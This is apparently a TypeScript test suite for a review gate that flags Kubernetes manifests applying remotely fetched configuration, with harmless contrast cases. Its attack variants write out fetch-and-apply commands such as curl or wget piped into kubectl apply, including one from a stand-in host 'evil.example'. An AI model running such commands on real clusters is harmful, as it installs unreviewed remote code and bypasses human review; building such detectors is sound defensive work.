import { type Attempt, testAttackClass } from '../support/attack-class.ts'
import { objectsWith } from '../support/manifests.ts'

const mine = 'teams/catalog/thing.yaml'
const object = objectsWith({ name: 'thing', namespace: 'catalog' })
const pods = (container: object) => ({
  template: { spec: { containers: [{ name: 'a', image: 'tools:1', ...container }] } },
})
const runs = (...command: readonly string[]) => object('batch/v1', 'Job', { spec: pods({ command }) })
const shell = (script: string) => runs('sh', '-c', script)
const address = 'https://example.com/install.yaml'

const stopped = (way: string, text: string, before?: string): Attempt => ({
  way,
  ...(before !== undefined && { setting: { files: { [mine]: before } } }),
  files: { [mine]: text },
  conclusion: 'action_required',
  waitsFor: ['mesh-admins'],
  silentOn: /no mesh manifest touched|no request changes/,
})
const harmless = (way: string, text: string, before?: string) => ({
  way,
  ...(before !== undefined && { setting: { files: { [mine]: before } } }),
  files: { [mine]: text },
})

testAttackClass('a program that applies what is not here', {
  attack: stopped('from an address', runs('kubectl', 'apply', '-f', address)),
  variants: [
    stopped('in one word', runs('kubectl', 'create', `--filename=${address}`)),
    stopped('glued to its flag', runs('kubectl', 'apply', `-f${address}`)),
    stopped('before a file that is here', runs('kubectl', 'apply', '-f', address, '-f', '/manifests')),
    stopped('in a list', runs('kubectl', 'apply', '-f', `/manifests,${address}`)),
    stopped(
      'a kustomization of a repository',
      runs('kubectl', 'apply', '-k', 'github.com/acme/x//deploy?ref=v1'),
    ),
    stopped('what it deletes', runs('kubectl', 'delete', '-f', address)),
    stopped('what it replaces', runs('oc', 'replace', '-Rf', address)),
    stopped('piped', shell(`curl -sL ${address} | kubectl apply -f -`)),
    stopped('piped through another program', shell(`curl -sL ${address} | sed s/a/b/ | kubectl apply -f -`)),
    stopped('piped over several lines', shell(`wget -qO- ${address} |\n  kubectl apply --filename=-`)),
    stopped(
      'built elsewhere',
      shell('kustomize build https://github.com/acme/x//deploy | kubectl apply -f -'),
    ),
    stopped('by a variable', shell(`URL=${address}\nkubectl apply -f $URL`)),
    stopped('piped by a variable', shell('U=https://example.com\ncurl -s $U/x | kubectl apply -f -')),
    stopped('in place of a file', shell(`kubectl apply -f <(curl -s ${address})`)),
    stopped('in place of a text', shell(`kubectl apply -f - <<< "$(curl -s ${address})"`)),
    stopped('with a mark in its address', shell(`curl "https://example.com/?a=1&b=2" | kubectl apply -f -`)),
    stopped('one by one', shell(`curl ${address} | xargs -n1 kubectl apply -f`)),
    stopped('a repository', shell('git clone https://github.com/acme/x && kubectl apply -f x/deploy')),
    stopped(
      'a folder of a repository',
      shell('git clone https://github.com/acme/x\ncd x\nkubectl apply -k ./'),
    ),
    stopped('what another program fills in', shell(`oc process -f ${address} | oc apply -f -`)),
    stopped('the mesh itself', shell('istioctl manifest generate | kubectl apply -f -')),
    stopped('by another program', shell(`kapp deploy -a x -f ${address} -y`)),
    stopped(
      'what Sveltos fetches',
      object('config.projectsveltos.io/v1beta1', 'ClusterProfile', {
        spec: { policyRefs: [{ kind: 'ConfigMap', remoteURL: { url: address } }] },
      }),
    ),
    stopped('kept in a file', shell(`curl -sLo /tmp/x.yaml ${address}\nkubectl apply -f /tmp/x.yaml`)),
    stopped('kept under its own name', shell(`wget ${address} && kubectl -n ns1 apply -f install.yaml`)),
    stopped(
      'another address than before',
      runs('kubectl', 'apply', '-f', 'https://example.com/v2.yaml'),
      runs('kubectl', 'apply', '-f', address),
    ),
    stopped(
      'another address in a pipe',
      shell('curl https://evil.example/a | kubectl apply -f -'),
      shell('curl https://example.com/a | kubectl apply -f -'),
    ),
    stopped(
      'a script that is kept beside',
      object('v1', 'ConfigMap', { data: { run: `kubectl apply -f ${address}\n` } }),
    ),
  ],
  neighbours: [
    harmless('it looks', runs('kubectl', 'get', '-f', address)),
    harmless('it tries', runs('kubectl', 'apply', '--dry-run=server', '-f', address)),
    harmless(
      'the address is as it was',
      `# ours\n${runs('kubectl', 'apply', '-f', address)}`,
      runs('kubectl', 'apply', '-f', address),
    ),
    harmless(
      'the image is another',
      runs('kubectl', 'apply', '-f', address).replace('tools:1', 'tools:2'),
      runs('kubectl', 'apply', '-f', address),
    ),
    harmless('it is gone', '# nothing\n', runs('kubectl', 'apply', '-f', address)),
    harmless('what is mounted', runs('kubectl', 'apply', '-f', '/manifests')),
    harmless(
      'what the script says',
      shell('kubectl apply -f - <<EOF\napiVersion: v1\nkind: ConfigMap\nmetadata: { name: a }\nEOF\n'),
    ),
    harmless(
      'it asks an address first',
      shell('curl -sf https://example.com/healthz\nkubectl apply -f /manifests/a.yaml'),
    ),
    harmless(
      'it asks an address, then reads what it says itself',
      shell("curl -sf https://example.com/healthz\necho '{}' | kubectl apply -f -"),
    ),
    harmless(
      'which server it speaks to',
      runs('kubectl', '--server', 'https://kubernetes.default.svc', 'apply', '-f', '/manifests'),
    ),
    harmless(
      'it fetches what it does not apply',
      shell('wget https://example.com/data.csv && kubectl apply -f /manifests/a.yaml'),
    ),
    harmless(
      'an address that it fills in',
      shell("sed 's|URL|https://example.com|' a.yaml | kubectl apply -f -"),
    ),
    harmless(
      'if an address answers',
      shell('curl -sf https://example.com || kubectl apply -f /manifests/a.yaml'),
    ),
    harmless(
      'a repository, and what is mounted',
      shell('git clone https://github.com/acme/x && kubectl apply -f /manifests'),
    ),
    harmless('it compares', shell(`kubectl diff -f ${address}`)),
    harmless('it restarts its own', runs('kubectl', 'rollout', 'restart', 'deploy/web')),
  ],
})
